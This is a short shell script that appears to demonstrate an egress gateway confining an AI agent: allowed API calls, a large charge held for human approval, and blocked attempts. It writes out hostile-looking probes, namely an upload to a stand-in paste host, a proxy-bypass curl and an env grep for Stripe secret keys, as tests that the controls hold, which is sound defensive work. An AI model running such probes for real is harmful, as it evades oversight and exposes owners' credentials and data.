#!/bin/sh
# What the agent does, through HTTPS_PROXY (set by Agent Space in the cell).
say() { printf '\n  %s\n    ' "$1"; }
say "score customer c-001 (allowed)"
curl -sS -X POST -H 'content-type: application/json' -d '{"customer":"c-001"}' https://scoring.internal.example/v1/score
say "list charges (brokered: the gateway adds the Stripe key; the agent never has it)"
curl -sS https://api.stripe.com/v1/charges
say "charge 20 EUR (allowed)"
curl -sS -X POST -H 'content-type: application/json' -d '{"amount":20,"currency":"eur"}' https://api.stripe.com/v1/charges
say "charge 5000 EUR (needs a human's approval)"
curl -sS -X POST -H 'content-type: application/json' -d '{"amount":5000,"currency":"eur"}' https://api.stripe.com/v1/charges
say "delete the scoring model (method not allowed)"
curl -sS -X DELETE https://scoring.internal.example/v1/score
say "send data to paste.example (host not allowed)"
curl -sS https://paste.example/upload
say "bypass the proxy (no route out of the cell)"
curl -sS -m 3 --noproxy '*' https://api.stripe.com/v1/charges 2>&1
say "read the Stripe key from the environment"
env | grep -i -e stripe -e '^sk_' || echo "(not there)"
echo
